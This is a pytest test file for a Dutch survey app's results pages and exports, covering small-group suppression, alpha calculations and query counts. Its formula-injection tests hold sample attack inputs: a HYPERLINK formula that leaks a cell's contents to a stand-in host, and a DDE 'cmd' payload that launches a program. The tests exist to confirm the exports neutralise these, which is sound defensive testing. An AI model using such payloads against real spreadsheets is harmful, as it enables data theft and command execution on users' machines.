"""Round results: the phase and figures from SQL aggregates, suppression everywhere,
exports safe against formula injection, and a constant number of queries."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta

import pytest
import sqlalchemy as sa

from maturity.extensions import db
from maturity.rounds import services
from maturity.results import publication

from ..conftest import count_queries
from ..helpers import bulk_responses, filled_round


def _url(world, round_, suffix="results"):
    return f"/o/{world.ours.org.slug}/rounds/{round_.id}/{suffix}"


def test_results_page_shows_phase_dimensions_mirror_and_departments(app, client, auth, world):
    round_ = filled_round(app, world, {"Wonen": 6, "Verhuur": 7}, customers=6, comments=["Prima service"] * 6)
    auth.login(world.ours.director)
    html = client.get(_url(world, round_)).get_data(as_text=True)
    assert "Fase" in html and any(p in html for p in ("onwetend", "klantgericht", "klantbewust", "klantbekwaam"))
    assert "Medewerkers denken dat klanten de organisatie een" in html
    assert "Wonen" in html and "Verhuur" in html
    assert "Cronbach" in html
    assert "Opmerkingen worden getoond vanaf 10" in html and "Prima service" not in html  # 6 < 10


def test_below_the_minimum_nothing_is_shown_anywhere(app, client, auth, world):
    round_ = filled_round(app, world, {"Wonen": 4})
    auth.login(world.ours.director)
    html = client.get(_url(world, round_)).get_data(as_text=True)
    assert "Te weinig reacties" in html and "Medewerkers denken dat" not in html and "Fase</p>" not in html
    rows = list(csv.reader(io.StringIO(client.get(_url(world, round_, "results.csv")).get_data(as_text=True).lstrip("\ufeff")), delimiter=";"))
    assert len(rows) == 2 and rows[1][-1] == "te weinig reacties"


def test_a_small_department_and_its_complement_are_hidden(app, client, auth, world):
    round_ = filled_round(app, world, {"Groot": 8, "Middel": 6, "Klein": 2})
    auth.login(world.ours.director)
    html = client.get(_url(world, round_)).get_data(as_text=True)
    section = html[html.index('id="departments"'):html.index('id="comments"')]
    # Klein, and Middel so that Klein can't be derived, are counted together under Overig.
    assert "Klein" not in section and "Middel" not in section and "Groot" in section and "Overig" in section
    rows = list(csv.reader(io.StringIO(client.get(_url(world, round_, "results.csv")).get_data(as_text=True).lstrip("\ufeff")), delimiter=";"))
    per_department = [r for r in rows if r[0].startswith("Dimensie per afdeling")]
    assert {(r[2], r[3]) for r in per_department} == {("Groot", "8"), ("Overig (kleinere afdelingen en zonder afdeling)", "8")}


def test_customer_comments_above_their_threshold(app, client, auth, world):
    """A customer who types a formula as a comment: the page shows it as text, and no
    spreadsheet gets it, as a formula or at all (customers' comments are not exported,
    docs/privacy.md); the employees' comments, which are, are neutralised
    (test_employee_voice)."""
    from openpyxl import load_workbook

    formula = '=HYPERLINK("http://x.example/?leak="&A1,"klik")'
    round_ = filled_round(app, world, {"Wonen": 6}, customers=10, comments=[formula, "Goed bereikbaar"])
    auth.login(world.ours.director)
    html = client.get(_url(world, round_)).get_data(as_text=True)
    assert "Goed bereikbaar" in html
    assert '=HYPERLINK(&#34;http://x.example/?leak=&#34;&amp;A1,&#34;klik&#34;)' in html  # as text, escaped
    assert 'href="http://x.example' not in html

    text = client.get(_url(world, round_, "results.csv")).get_data(as_text=True)
    cells = [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";") for cell in row]
    workbook = load_workbook(io.BytesIO(client.get(_url(world, round_, "results.xlsx")).data))
    cells += [c.value for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert not any(cell.startswith(("=", "@")) for cell in cells)  # never a formula
    assert "Goed bereikbaar" not in cells and not any("HYPERLINK" in cell for cell in cells)  # nor the comments at all


def test_exports_neutralise_formulas(app, client, auth, world):
    from maturity.utils import neutralise

    assert neutralise("=1+1") == "'=1+1" and neutralise("+31 cmd") == "'+31 cmd" and neutralise("@x") == "'@x"
    assert neutralise("-2+3+cmd|' /C calc'!A0") == "'-2+3+cmd|' /C calc'!A0" and neutralise("\tx") == "'\tx"
    assert neutralise("Goed") == "Goed"
    # A plain number is data, not a formula (a mirror gap is written as "+1,0").
    assert neutralise("+1,0") == "+1,0" and neutralise("-0.5") == "-0.5"
    assert neutralise(4.5) == 4.5
    round_ = filled_round(app, world, {"=cmd|' /C calc'!A0": 6})
    auth.login(world.ours.director)
    text = client.get(_url(world, round_, "results.csv")).get_data(as_text=True)
    assert "'=cmd|" in text and ";=cmd|" not in text
    from openpyxl import load_workbook

    workbook = load_workbook(io.BytesIO(client.get(_url(world, round_, "results.xlsx")).data))
    values = [c.value for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row]
    assert "'=cmd|' /C calc'!A0" in values and not any(isinstance(v, str) and v.startswith("=") for v in values)


@pytest.mark.parametrize("suffix", ["results", "results.csv", "results.xlsx", "results/live.json"])
def test_query_count_is_the_same_for_10_and_1000_responses(app, client, auth, world, suffix):
    # Both measured rounds have an earlier one, so both pages also compare with it.
    filled_round(app, world, {"Eerder": 6}, seed=2)
    small = filled_round(app, world, {"Wonen": 10}, customers=12, seed=1)
    auth.login(world.ours.director)
    few = count_queries(client, _url(world, small, suffix))
    big = services.create_round(world.ours.org, services.RoundSettings(
        title="Groot", opens_on=date.today(), closes_on=date.today() + timedelta(days=9)))
    services.open_round(big)
    bulk_responses(big, world, n=1000, customers=200)
    assert count_queries(client, _url(world, big, suffix)) == few


def test_alpha_in_sql_matches_the_pure_function(app, world):
    from maturity.core import MIN_ANSWERED_SHARE, cronbach_alpha
    from maturity.instrument import load_instrument
    from maturity.results.services import round_results
    from maturity.rounds.models import Response, ResponseAnswer

    round_ = services.create_round(world.ours.org, services.RoundSettings(
        title="Alfa", opens_on=date.today(), closes_on=date.today() + timedelta(days=9)))
    services.open_round(round_)
    bulk_responses(round_, world, n=60, customers=0, seed=9)
    # "Weet ik niet": one item for some (filled in with their own mean), most of the scale for
    # others (left out).
    db.session.execute(sa.update(ResponseAnswer).where(ResponseAnswer.item_key == "culture.c2",
                                                       ResponseAnswer.response_id.like("%1")).values(value=None))
    db.session.execute(sa.update(ResponseAnswer).where(ResponseAnswer.item_key.like("culture.%"),
                                                       ResponseAnswer.item_key != "culture.c1",
                                                       ResponseAnswer.response_id.like("%7")).values(value=None))
    from maturity.results import tally

    tally.rebuild(round_)  # recomputed from the changed answers, in SQL
    instrument = load_instrument()
    computed = {r.section: r for r in round_results(round_).reliability}
    rows = db.session.execute(
        sa.select(ResponseAnswer.response_id, ResponseAnswer.item_key, ResponseAnswer.value)
        .join(Response).where(Response.round_id == round_.id)
    ).all()
    by_respondent: dict[str, dict] = {}
    for rid, key, value in rows:
        by_respondent.setdefault(rid, {})[key] = value
    for section in instrument.likert_sections:
        matrix = [[(6 - a[i.key] if i.reverse and a[i.key] is not None else a[i.key]) for i in section.items]
                  for a in by_respondent.values()]
        expected = cronbach_alpha(matrix, min_answered_share=MIN_ANSWERED_SHARE)
        assert expected is not None
        assert computed[section.key].alpha == pytest.approx(expected, abs=1e-9)
        # On complete answers only: nothing filled in (listwise, the pure function's default).
        complete = [row for row in matrix if None not in row]
        assert computed[section.key].complete_n == len(complete)
        assert computed[section.key].complete_alpha == pytest.approx(cronbach_alpha(matrix), abs=1e-9)
        # The spread: the statements' average standard deviation on 1..5.
        import statistics

        filled = [[statistics.fmean([v for v in row if v is not None]) if v is None else v for v in row]
                  for row in matrix if sum(v is not None for v in row) >= len(row) * MIN_ANSWERED_SHARE]
        spread = statistics.fmean(statistics.stdev(col) for col in zip(*filled))
        assert computed[section.key].spread == pytest.approx(spread, abs=1e-9)
    assert computed["leadership"].n == 60 and computed["culture"].n == 54  # the 6 "…7" respondents left out
    assert computed["leadership"].complete_n == 60 and computed["culture"].complete_n == 48  # and the 6 "…1"


@pytest.mark.parametrize("minimum, shown", [(6, True), (8, False)])
def test_the_customer_mirror_has_its_own_minimum(app, client, auth, world, minimum, shown):
    from maturity.results.services import round_results

    round_ = filled_round(app, world, {"Wonen": 6}, customers=6, close=False)
    round_.min_customer_group_size = minimum
    with app.test_request_context():
        publication.close(round_)
        results = round_results(round_)
    assert results.has_customers is shown
    assert (results.profile.mirror_customer is not None) is shown
    assert all((m.customer is not None) is shown for m in results.mirror)
    auth.login(world.ours.director)
    html = client.get(_url(world, round_)).get_data(as_text=True)
    assert ("Voorlopig: met 6 klantreacties (er zijn er minstens 8 nodig)" in html) is not shown


def test_the_customer_minimum_is_never_below_the_round_minimum(app, client, auth, world):
    auth.login(world.ours.director)
    url = f"/o/{world.ours.org.slug}/rounds/new"
    form = {"title": "Meting", "opens_on": date.today().isoformat(), "closes_on": (date.today() + timedelta(days=9)).isoformat(),
            "min_group_size": "6", "min_customer_group_size": "4", "min_comment_group_size": "10"}
    response = client.submit(url, form)
    assert response.status_code == 400
    assert "Moet minstens zo groot zijn als de minimale groepsgrootte voor scores." in response.get_data(as_text=True)
    form.update(min_customer_group_size="12")
    assert client.submit(url, form).status_code == 302
    from maturity.rounds.models import Round
    assert db.session.scalar(sa.select(Round.min_customer_group_size).where(Round.title == "Meting")) == 12
